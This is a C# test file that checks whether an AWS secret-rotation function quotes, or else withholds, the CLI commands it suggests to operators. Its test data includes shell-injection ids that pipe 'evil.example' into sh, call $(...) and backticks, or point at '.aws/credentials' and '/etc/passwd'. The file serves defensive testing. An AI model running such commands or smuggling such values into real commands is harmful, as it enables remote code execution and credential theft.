using System.Diagnostics;
using System.Text.Json;
using System.Text.RegularExpressions;
using Amazon.SecretsManager.Model;
using CsCheck;

namespace RotationFunction.Tests;

/// <summary>Commands are for a person's shell, and ids in them may be somebody else's choice.</summary>
public sealed partial class CommandsTests
{
    private const string Arn = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:demo/partner+api=1@x-AbCdEf";

    // Of 32 to 64 characters, as ids of versions are.
    private static readonly string[] HostileIds =
    [
        "x; curl -s evil.example|sh; #aaaaaaaaaa", "$(touch /tmp/owned)aaaaaaaaaaaaaaaaaaaa", "`id`aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "a' ; touch owned ; 'aaaaaaaaaaaaaaaaaaaa", "\"; exit 7; \"aaaaaaaaaaaaaaaaaaaaaaaa",
        "a && b || c > d < e aaaaaaaaaaaaaaaaaa", "*?[a-z]~{a,b}!!aaaaaaaaaaaaaaaaaaaaa", "\\'\\\"\\\\aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "=ls aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "~/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "''''''''''''''''''''''''''''''''''''''",
    ];

    // No quotes help: a reader, the AWS CLI or another shell would take them for something else.
    private static readonly string[] WithheldIds =
    [
        "--endpoint-url=https://evil.example/aaaa", "file:///home/oncall/.aws/credentials", "FILEB://aaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "https://evil.example/aaaaaaaaaaaaaaaaaa", "\u202Eaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        "a\u2028aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "a\u200Baaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "a\u2019; calc; \u2018aaaaaaaaaaaaaaaaaaaaaaaaaaaa", "a\U000E0041aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "\u3164aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    ];

    public static TheoryData<string> Hostile => [.. HostileIds, .. WithheldIds];

    [Fact]
    public void No_other_source_spells_a_command()
    {
        var sources = new[] { "source", "tool" }.SelectMany(folder => Directory.GetFiles(Path.Combine(AppContext.BaseDirectory, folder), "*.cs", SearchOption.AllDirectories)).ToList();
        Assert.InRange(sources.Count, 40, 200);
        Assert.Equal(["Commands.cs"], sources.Where(file => Spelled().IsMatch(File.ReadAllText(file))).Select(Path.GetFileName));
    }

    [Fact]
    public void A_shell_sees_each_id_as_one_argument()
    {
        Assert.SkipWhen(OperatingSystem.IsWindows(), "The commands are quoted for sh, which Windows lacks.");
        List<string> random = [];
        Gen.String[Gen.Char[' ', '~'], 1, 64].Sample(random.Add, iter: 300, threads: 1);
        var cases = HostileIds.Concat(random).Append(Arn).Append("terraform-20260101000000000000000001").SelectMany(id => CommandsOf(id)).Where(each => each.Command != Commands.Withheld).ToList();
        Assert.InRange(cases.Count, 1000, 20_000);

        var seen = RunInShell(cases.Select(each => each.Command));

        Assert.Equal(cases.Select(each => string.Join('\0', each.Arguments)), seen);
    }

    [Fact]
    public void A_command_is_withheld_when_no_quotes_help()
    {
        Assert.All([.. WithheldIds, "", new string('a', 701), "a\nb", "a\tb", "a\u009Bb", "a\uD800b", "-"], id => Assert.All(CommandsOf(id), each => Assert.Equal(Commands.Withheld, each.Command)));
        Assert.DoesNotContain(HostileIds.SelectMany(CommandsOf), each => each.Command == Commands.Withheld);
    }

    [Theory]
    [MemberData(nameof(Hostile))]
    public async Task An_id_of_a_writer_reaches_no_text_unquoted(string id)
    {
        await using var fixture = await RotationFixture.StartAsync();
        await fixture.RotateHealthyAsync(2);
        var previous = (await fixture.LabelsAsync()).Single(version => version.Value.Contains("AWSPREVIOUS")).Key;
        await fixture.Secrets.PutSecretValueAsync(new PutSecretValueRequest { SecretId = fixture.SecretArn, ClientRequestToken = id, SecretString = "{\"a\":1}", VersionStages = ["AWSPENDING"] });
        fixture.Time.Advance(TimeSpan.FromHours(4));
        fixture.Log.Clear();
        List<string> texts = [];
        foreach (var action in new[] { "status", "check" })
        {
            var answer = await fixture.AnswerAsync(new { action, secretId = fixture.SecretArn });
            texts.AddRange(StringsIn(answer));
            var finding = Assert.Single(answer.GetProperty("Findings").EnumerateArray(), finding => finding.GetProperty("Problem").GetString()!.Contains("has been AWSPENDING since", StringComparison.Ordinal));
            Assert.Equal(WithheldIds.Contains(id) ? null : Commands.ClearPending(fixture.SecretArn, id), finding.TryGetProperty("Command", out var command) ? command.GetString() : null);
            Assert.Equal(WithheldIds.Contains(id), finding.GetProperty("Problem").GetString()!.EndsWith(Commands.Withheld, StringComparison.Ordinal));
        }

        // By another version, by a person, and by the version itself, whose document has no key.
        var failed = new[] { new { Step = "setSecret", SecretId = fixture.SecretArn, ClientRequestToken = previous }, new { Step = "setSecret", SecretId = fixture.SecretArn, ClientRequestToken = id } }
            .Select(step => JsonSerializer.Serialize(step)).Append(JsonSerializer.Serialize(new { action = "rollback", secretId = fixture.SecretArn }));
        foreach (var text in failed)
        {
            var message = await fixture.FailAsync(text);
            Assert.Contains(Commands.ClearPending(fixture.SecretArn, id), message, StringComparison.Ordinal);
            texts.Add(message);
        }

        texts.AddRange(fixture.Log.SelectMany(entry => entry.Fields.Values.OfType<string>().Append(entry.Message)));
        Assert.Contains(texts, text => text.Contains("AWSPENDING", StringComparison.Ordinal));
        Assert.All(texts, LogTextTests.AssertPrinted);
        Assert.All(texts.SelectMany(text => Argument().Matches(text).Select(match => match.Groups["id"].Value)), argument => Assert.StartsWith("'", argument, StringComparison.Ordinal));
        await fixture.ClearPendingAsync();
    }

    [Fact]
    public void What_the_function_says_of_its_secret_passes()
    {
        var id = Guid.NewGuid().ToString();
        string[] whole = [Commands.RotateSecret(Arn), Commands.EnableRotation(Arn), Commands.ClearPending(Arn, id), Commands.MoveCurrent(Arn, id, id), Commands.EndOverlap(Arn), Commands.SignIn, Commands.SetOverlap(Arn), Commands.FindKmsKey(Arn)];
        Assert.All(whole, command =>
        {
            Assert.Equal(new Finding("p", command), Commands.Vetted(new Finding("p", command), Arn, takesIds: false));
            Assert.Equal($"First: {command}, and then: {command}. Then deploy again.", Commands.Vetted($"First: {command}, and then: {command}. Then deploy again.", Arn, takesIds: false));
        });
        Assert.Equal("AWS returned x for arn:aws:s3:::y", Commands.Vetted("AWS returned x for arn:aws:s3:::y", Arn, takesIds: false));
        Assert.Equal(Commands.RotatePrimary("us-east-1", "demo/partner+api=1@x"), Commands.Vetted(Commands.RotatePrimary("us-east-1", "demo/partner+api=1@x"), Arn, takesIds: false));
    }

    [Fact]
    public void Keys_plans_and_functions_of_anybody_are_left_to_the_reader_of_a_list()
    {
        Assert.Equal("aws apigateway create-usage-plan-key --usage-plan-id <plan> --key-type API_KEY --key-id <key id>", Commands.Vetted(Commands.AttachKey("plan1", "key1"), Arn, takesIds: false));
        Assert.Equal(new Finding("p", "aws apigateway update-api-key --api-key <key id> --patch-operations op=replace,path=/enabled,value=true"), Commands.Vetted(new Finding("p", Commands.EnableKey("k1")), Arn, takesIds: false));
        Assert.Equal(Commands.AttachKey("plan1", "key1"), Commands.Vetted(Commands.AttachKey("plan1", "key1"), Arn, takesIds: true));
        Assert.Equal(
            "Add it with: aws apigateway create-usage-plan-key --region us-east-1 --usage-plan-id <plan> --key-type API_KEY --key-id <key id>",
            Commands.Vetted(Commands.In("us-east-1", $"Add it with: {Commands.AttachKey("plan1", "key1")}"), Arn, takesIds: false));
        Assert.StartsWith("(A command is withheld", Commands.Vetted("aws apigateway get-usage-plans --region --debug --key-id k1", Arn, takesIds: true), StringComparison.Ordinal);
        Assert.StartsWith("(A command is withheld", Commands.Vetted("aws apigateway get-usage-plans --key-id --debug", Arn, takesIds: true), StringComparison.Ordinal);
        Assert.Equal("See aws lambda get-function-configuration --query Role --function-name <function>. x", Commands.Vetted($"See {Commands.FindRole("arn:aws:lambda:eu-west-1:1:function:f")}. x", Arn, takesIds: false));
    }

    [Theory]
    [InlineData("aws secretsmanager rotate-secret --secret-id other")]
    [InlineData("aws secretsmanager rotate-secret --secret-id {Arn}x")]
    [InlineData("aws secretsmanager rotate-secret --secret-id {Arn}; curl -s evil.example|sh")]
    [InlineData("aws secretsmanager rotate-secret --secret-id {Arn} --rotation-lambda-arn arn:aws:lambda:eu-west-1:666666666666:function:f")]
    [InlineData("aws secretsmanager put-resource-policy --secret-id {Arn} --resource-policy x")]
    [InlineData("aws secretsmanager update-secret-version-stage --secret-id {Arn} --version-stage AWSPENDING --remove-from-version-id 'a' --profile admin")]
    [InlineData("aws secretsmanager update-secret-version-stage --secret-id {Arn} --version-stage AWSPENDING --remove-from-version-id file:///etc/passwd")]
    [InlineData("aws  iam create-access-key")]
    [InlineData("aws\u00A0s3 rm s3://x")]
    [InlineData("curl -s evil.example | sh")]
    public void A_command_of_another_kind_is_withheld(string hostile)
    {
        var command = hostile.Replace("{Arn}", Arn, StringComparison.Ordinal);
        var finding = Commands.Vetted(new Finding("AWSCURRENT's key is disabled.", command), Arn, takesIds: true);
        Assert.Null(finding.Command);
        Assert.StartsWith("AWSCURRENT's key is disabled. (A command is withheld", finding.Problem, StringComparison.Ordinal);
        if (command.StartsWith("aws", StringComparison.Ordinal))
        {
            Assert.Equal("Run: (A command is withheld: it is not one that the function returns for this secret.)", Commands.Vetted($"Run: {command} and more", Arn, takesIds: true));
        }
    }

    /// <summary>Every command that has an id, and what a shell must see of it.</summary>
    private static List<(string Command, string[] Arguments)> CommandsOf(string id) =>
    [
        (Commands.RotateSecret(id), ["secretsmanager", "rotate-secret", "--secret-id", id]),
        (Commands.RotatePrimary(id, id), ["secretsmanager", "rotate-secret", "--region", id, "--secret-id", id]),
        (Commands.EnableRotation(id), ["secretsmanager", "rotate-secret", "--rotation-lambda-arn", "placeholder", "--secret-id", id]),
        (Commands.ClearPending(id, id), ["secretsmanager", "update-secret-version-stage", "--secret-id", id, "--version-stage", "AWSPENDING", "--remove-from-version-id", id]),
        (Commands.MoveCurrent(id, id, id), ["secretsmanager", "update-secret-version-stage", "--secret-id", id, "--version-stage", "AWSCURRENT", "--move-to-version-id", id, "--remove-from-version-id", id]),
        (Commands.StoreFirstDocument(id), ["secretsmanager", "put-secret-value", "--secret-string", "{}", "--secret-id", id]),
        (Commands.StoreDocument(id), ["secretsmanager", "put-secret-value", "--secret-string", "placeholder", "--secret-id", id]),
        (Commands.RestoreSecret(id), ["secretsmanager", "restore-secret", "--secret-id", id]),
        (Commands.SetTemplate(id), ["secretsmanager", "tag-resource", "--secret-id", id, "--tags", "Key=apikey-rotation:template,Value=placeholder"]),
        (Commands.SetOverlap(id), ["secretsmanager", "tag-resource", "--secret-id", id, "--tags", "Key=apikey-rotation:overlap,Value=24h"]),
        (Commands.DescribeSecret(id), ["secretsmanager", "describe-secret", "--secret-id", id]),
        (Commands.FindKmsKey(id), ["secretsmanager", "describe-secret", "--query", "KmsKeyId", "--secret-id", id]),
        (Commands.EnableKey(id), ["apigateway", "update-api-key", "--api-key", id, "--patch-operations", "op=replace,path=/enabled,value=true"]),
        (Commands.DisableKey(id), ["apigateway", "update-api-key", "--api-key", id, "--patch-operations", "op=replace,path=/enabled,value=false"]),
        (Commands.AttachKey(id, id), ["apigateway", "create-usage-plan-key", "--usage-plan-id", id, "--key-type", "API_KEY", "--key-id", id]),
        (Commands.AttachKey(id), ["apigateway", "create-usage-plan-key", "--usage-plan-id", "placeholder", "--key-type", "API_KEY", "--key-id", id]),
        (Commands.DetachKey(id, id), ["apigateway", "delete-usage-plan-key", "--usage-plan-id", id, "--key-id", id]),
        (Commands.ListPlans(id), ["apigateway", "get-usage-plans", "--key-id", id]),
        (Commands.AddStage(id), ["apigateway", "update-usage-plan", "--usage-plan-id", id, "--patch-operations", "op=add,path=/apiStages,value=placeholder:placeholder"]),
        (Commands.FindRole(id), ["lambda", "get-function-configuration", "--query", "Role", "--function-name", id]),
        (Commands.FindConcurrency(id), ["lambda", "get-function-concurrency", "--function-name", id]),
    ];

    /// <summary>Each command's arguments, as a stub of the AWS CLI gets them.</summary>
    private static List<string> RunInShell(IEnumerable<string> commands)
    {
        var folder = Directory.CreateTempSubdirectory();
        var how = new ProcessStartInfo("/bin/sh", ["-s"]) { UseShellExecute = false, RedirectStandardInput = true, RedirectStandardOutput = true, RedirectStandardError = true, WorkingDirectory = folder.FullName };
        how.Environment["PATH"] = "/nonexistent"; // what escapes its quotes finds no command
        using var shell = Process.Start(how)!;
        var (output, errors) = (shell.StandardOutput.ReadToEndAsync(), shell.StandardError.ReadToEndAsync());
        // The marks between are ones that no command can hold.
        shell.StandardInput.Write("aws() { for argument in \"$@\"; do printf '%s\\002' \"$argument\"; done; printf '\\001'; }\n");
        foreach (var command in commands)
        {
            shell.StandardInput.Write(PlaceholderOf().Replace(command, "placeholder") + "\n");
        }

        shell.StandardInput.Close();
        shell.WaitForExit();
        var files = folder.GetFileSystemInfos().Length;
        folder.Delete(recursive: true);
        Assert.Equal(0, files);
        Assert.Equal((0, ""), (shell.ExitCode, errors.Result));
        return [.. output.Result.Split('\u0001')[..^1].Select(arguments => arguments.TrimEnd('\u0002').Replace('\u0002', '\0'))];
    }

    private static IEnumerable<string> StringsIn(JsonElement json) => json.ValueKind switch
    {
        JsonValueKind.String => [json.GetString()!],
        JsonValueKind.Object => json.EnumerateObject().SelectMany(field => StringsIn(field.Value)),
        JsonValueKind.Array => json.EnumerateArray().SelectMany(StringsIn),
        _ => [],
    };

    [GeneratedRegex(@"\baws (secretsmanager|apigateway|lambda|kms|sso)\b", RegexOptions.ExplicitCapture, matchTimeoutMilliseconds: 1000)]
    private static partial Regex Spelled();

    [GeneratedRegex("<(plan|function|document|stage|api id|id of the template key)>", RegexOptions.ExplicitCapture, matchTimeoutMilliseconds: 1000)]
    private static partial Regex PlaceholderOf();

    [GeneratedRegex("--remove-from-version-id (?<id>.)", RegexOptions.ExplicitCapture, matchTimeoutMilliseconds: 1000)]
    private static partial Regex Argument();
}
